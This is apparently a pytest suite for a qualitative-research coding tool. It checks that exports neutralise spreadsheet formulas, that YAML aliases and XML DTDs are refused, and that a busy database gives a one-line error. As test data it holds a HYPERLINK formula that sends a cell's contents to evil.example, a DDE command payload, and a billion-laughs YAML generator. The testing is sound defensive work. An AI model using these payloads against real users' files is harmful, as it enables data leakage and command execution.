"""Hostile input: spreadsheet formulas in exported text, YAML aliases, XML with a DTD, and a
database another user keeps busy. Each is one clear line and nothing stored or evaluated."""

from __future__ import annotations

import csv
import io
import threading
import time
import tracemalloc
import zipfile
from pathlib import Path

import docx
import openpyxl
import pandas as pd
import pytest
from sqlalchemy import func, select

from qualcode import cli
from qualcode.codebook import CodebookError
from qualcode.refi.codebook_files import read_codebook_file
from qualcode.common.errors import QualcodeError
from qualcode.export import tables
from qualcode.common.files import csv_bytes, spreadsheet_text
from qualcode.ingest.importer import ImportOptions, import_one
from qualcode.store.model import Code, Document
from qualcode.export.quotes import CodeInfo, Quote, QuoteSet
from qualcode.refi.qdpx_import import import_qdpx
from qualcode.store import Store, get_project

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Сәлем")'
ENTITY = '<!DOCTYPE x [<!ENTITY a "қазақ қазақ қазақ">]>'
TRANSCRIPT = "Модератор: Сәлеметсіздер ме! Кім бастайды?\nНұрлан: Мен Қызылордадан келдім, ұзақ күттім.\n"


def run(db: Path | str, capsys, *args: str) -> tuple[int, str]:
    """The real CLI entry point; returns (exit code, stdout + stderr)."""
    code = cli.main(["--db", str(db), *args])
    out = capsys.readouterr()
    return code, out.out + out.err


def one_line(output: str) -> str:
    assert "Traceback" not in output
    lines = output.strip().splitlines()
    assert len(lines) == 1, output
    return lines[0]


# --- spreadsheets ---------------------------------------------------------------------------

@pytest.mark.parametrize("text", ["=1+2", "+7 701 555 12 34", "-ғимарат", "@SUM(A1)", "\tқұпия", "\rүй", HYPERLINK])
def test_text_that_starts_like_a_formula_gets_a_quote(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Сәлем = салем", "әңгіме-1", -5, -2.5, 0, None, ""])
def test_other_cells_are_left_alone(value):
    assert spreadsheet_text(value) == value


def _quoteset(text: str, coder: str = "Әсел") -> QuoteSet:
    code = CodeInfo(1, "Кезек", "Кезек", 0, "", (), {}, False)
    quote = Quote(coding_id=1, code_id=1, code="Кезек", document_id=1, document="@fg01.txt", language="kk",
                  document_attributes={}, start=0, end=len(text), text=text, segment_id=7,
                  participant_id=None, participant=None, pseudonym=None, role=None, participant_attributes={},
                  time=-3.0, coders=(coder,), statuses=("manual",), score=None)
    return QuoteSet(project="p", codebook="", coder=coder, coder_kind="human", codes=[code], quotes=[quote])


def test_csv_export_never_holds_a_formula():
    rows = list(csv.DictReader(io.StringIO(tables.csv_tables(_quoteset(HYPERLINK))["quotes"].decode("utf-8-sig"))))
    [row] = rows
    assert row["text"] == "'" + HYPERLINK
    assert row["document"] == "'@fg01.txt"
    assert row["time_s"] == "-3.0"  # a number stays a number


def test_xlsx_keeps_the_text_as_a_string_cell():
    sheet = openpyxl.load_workbook(io.BytesIO(tables.xlsx_bytes(_quoteset(HYPERLINK))))["Quotes"]
    cells = dict(zip([c.value for c in sheet[1]], sheet[2]))
    assert cells["text"].value == HYPERLINK and cells["text"].data_type == "s"
    assert cells["time_s"].value == -3 and cells["time_s"].data_type == "n"


def test_page_tables_download_safely():
    """The agreement table's CSV and XLSX downloads: a coder named like a formula stays text."""
    frame = pd.DataFrame([{"coder": "=cmd|' /C calc'!A0", "κ": -0.25, "n": None}])
    [row] = csv.reader(io.StringIO(tables.frame_csv_bytes(frame).decode("utf-8-sig")).read().splitlines()[1:])
    assert row == ["'=cmd|' /C calc'!A0", "-0.25", ""]
    sheet = openpyxl.load_workbook(io.BytesIO(tables.frame_xlsx_bytes(frame, "agreement")))["agreement"]
    assert [c.data_type for c in sheet[2][:2]] == ["s", "n"] and sheet["A2"].value == "=cmd|' /C calc'!A0"


def test_csv_bytes_has_a_bom_and_crlf():
    data = csv_bytes(["a"], [["ө"]])
    assert data == "\ufeffa\r\nө\r\n".encode()


# --- YAML -----------------------------------------------------------------------------------

def billion_laughs() -> str:
    lines = ['lol: &a ["қ", "қ", "қ", "қ", "қ", "қ", "қ", "қ", "қ"]']
    for level in "bcdefghij":
        previous = chr(ord(level) - 1)
        lines.append(f"{level}: &{level} [{', '.join(['*' + previous] * 9)}]")
    lines.append("codes: [*j]")
    return "\n".join(lines) + "\n"


def test_a_billion_laughs_codebook_is_refused_at_once(tmp_path, capsys):
    book = tmp_path / "кодтар.yaml"
    book.write_text(billion_laughs(), encoding="utf-8")
    assert len(book.read_bytes()) < 1024
    db = tmp_path / "p.db"
    Store(str(db)).close()
    tracemalloc.start()
    started = time.perf_counter()
    code, output = run(db, capsys, "codebook", "load", str(book))
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert code == 1 and elapsed < 0.5 and peak < 20_000_000
    assert one_line(output) == (f"qualcode: error: {book}:1: not valid YAML: "
                                "anchors and aliases (& and *) are not allowed")
    with Store(str(db)).read() as session:
        assert session.scalar(select(func.count()).select_from(Code)) == 0


def test_an_alias_in_a_sidecar_is_refused(tmp_path, capsys):
    transcript = tmp_path / "fg01.txt"
    transcript.write_text(TRANSCRIPT, encoding="utf-8")
    (tmp_path / "fg01.attributes.yaml").write_text(
        "document: &d {site: Қызылорда}\nparticipants:\n  Нұрлан: *d\n", encoding="utf-8")
    db = tmp_path / "p.db"
    code, output = run(db, capsys, "import", str(transcript))
    assert code == 1 and "anchors and aliases (& and *) are not allowed" in output
    assert "fg01.attributes.yaml" in output and "Traceback" not in output
    assert _documents(str(db)) == 0


# --- XML with a DTD -------------------------------------------------------------------------

def _documents(url: str) -> int:
    with Store(url).read() as session:
        return session.scalar(select(func.count()).select_from(Document))


def _qdc() -> bytes:
    return (f'<?xml version="1.0" encoding="utf-8"?>\n{ENTITY}\n'
            '<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>'
            '<Code guid="a0000000-0000-4000-8000-000000000001" name="Кезек &a;" isCodable="true"/>'
            "</Codes></CodeBook>").encode()


def _qdpx(path: Path) -> Path:
    qde = (f'<?xml version="1.0" encoding="utf-8"?>\n{ENTITY}\n'
           '<Project xmlns="urn:QDA-XML:project:1.0" name="&a;" origin="x"><Sources/></Project>')
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("project.qde", qde)
    return path


def _plain_docx(path: Path) -> Path:
    """A Word transcript as python-docx writes it."""
    document = docx.Document()
    for line in TRANSCRIPT.splitlines():
        document.add_paragraph(line)
    document.save(path)
    return path


def _docx_with_dtd(path: Path) -> Path:
    """The same transcript, its word/document.xml rewritten to declare an entity and use it."""
    plain = _plain_docx(path.with_name("plain.docx"))
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml":
                declaration, _, rest = data.decode("utf-8").partition("?>")
                data = f"{declaration}?>{ENTITY}{rest.replace('Нұрлан:', '&a;:')}".encode()
            target.writestr(item, data)
    plain.unlink()
    return path


def test_a_qdc_with_a_dtd_is_refused(tmp_path, capsys):
    book = tmp_path / "кодтар.qdc"
    book.write_bytes(_qdc())
    with pytest.raises(CodebookError) as caught:
        read_codebook_file(book)
    assert caught.value.errors == [f"{book} declares a DTD; refused"]
    db = tmp_path / "p.db"
    code, output = run(db, capsys, "codebook", "load", str(book))
    assert code == 1 and one_line(output) == f"qualcode: error: {book} declares a DTD; refused"
    with Store(str(db)).read() as session:
        assert session.scalar(select(func.count()).select_from(Code)) == 0


def test_a_qdpx_whose_project_declares_an_entity_is_refused(tmp_path, capsys):
    package = _qdpx(tmp_path / "жоба.qdpx")
    db = tmp_path / "p.db"
    with pytest.raises(QualcodeError, match=r"жоба\.qdpx: project\.qde declares a DTD; refused$"):
        import_qdpx(Store(str(db)), package)
    code, output = run(db, capsys, "import-project", str(package))
    assert code == 1 and one_line(output) == f"qualcode: error: {package}: project.qde declares a DTD; refused"
    assert _documents(str(db)) == 0


def test_a_docx_whose_document_xml_declares_an_entity_is_refused(tmp_path, capsys):
    transcript = _docx_with_dtd(tmp_path / "fg02.docx")
    db = tmp_path / "p.db"
    store = Store(str(db))
    result = import_one(store, transcript, ImportOptions())
    assert result.status == "error" and result.error.endswith("word/document.xml declares a DTD; refused")
    assert "fg02.docx" in result.error
    code, output = run(db, capsys, "import", str(transcript))
    assert code == 1 and "word/document.xml declares a DTD; refused" in output and "Traceback" not in output
    assert _documents(str(db)) == 0


def test_the_same_docx_without_the_dtd_imports(tmp_path):
    """The check refuses the DTD, not the file: python-docx's own output goes in."""
    plain = _plain_docx(tmp_path / "fg03.docx")
    assert import_one(Store(str(tmp_path / "p.db")), plain, ImportOptions()).status == "imported"


# --- a busy database ------------------------------------------------------------------------

def test_a_writer_past_the_busy_timeout_gets_one_line(store_url):
    holder = Store(store_url)
    waiting = Store(store_url, busy_timeout=0.3)
    with holder.write() as session:
        get_project(session, "Сауалнама")
        session.flush()
        started = time.perf_counter()
        with pytest.raises(QualcodeError) as caught, waiting.write() as other:
            get_project(other, "екінші")
        elapsed = time.perf_counter() - started
    assert str(caught.value) == f"the database {waiting.shown_url} is busy (another user is writing); try again"
    assert 0.2 < elapsed < 5
    with waiting.write() as session:  # free again: the same store writes
        get_project(session, "екінші")
    holder.close()
    waiting.close()


def test_the_cli_says_busy_in_one_line(tmp_path, capsys, monkeypatch):
    db = tmp_path / "p.db"
    holder = Store(str(db))
    book = tmp_path / "codes.yaml"
    book.write_text("codes:\n  - name: Кезек\n", encoding="utf-8")
    monkeypatch.setenv("QUALCODE_BUSY_TIMEOUT", "0.2")
    outcome: list[tuple[int, str]] = []
    with holder.write() as session:
        get_project(session)
        session.flush()
        worker = threading.Thread(target=lambda: outcome.append(run(db, capsys, "codebook", "load", str(book))))
        worker.start()
        worker.join(30)
    [(code, output)] = outcome
    assert code == 1 and one_line(output).startswith("qualcode: error: the database sqlite:///")
    assert output.strip().endswith("is busy (another user is writing); try again")
    holder.close()


def test_a_bad_busy_timeout_setting_is_one_line(tmp_path, monkeypatch):
    monkeypatch.setenv("QUALCODE_BUSY_TIMEOUT", "soon")
    with pytest.raises(QualcodeError, match=r"^QUALCODE_BUSY_TIMEOUT='soon': give a number of seconds$"):
        Store(str(tmp_path / "p.db"))


def test_the_app_says_busy_in_one_line(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    db = tmp_path / "p.db"
    holder = Store(str(db))
    monkeypatch.setenv("QUALCODE_DB", str(db))
    monkeypatch.setenv("QUALCODE_BUSY_TIMEOUT", "0.2")
    with holder.write() as session:
        get_project(session, "Сауалнама")
        session.flush()
        at = AppTest.from_file(str(Path(__file__).parent.parent / "app.py"), default_timeout=60).run()
    assert not at.exception
    [error] = [e.value.replace("\\", "") for e in at.error]
    assert error == f"the database sqlite:///{db} is busy (another user is writing); try again"
    holder.close()
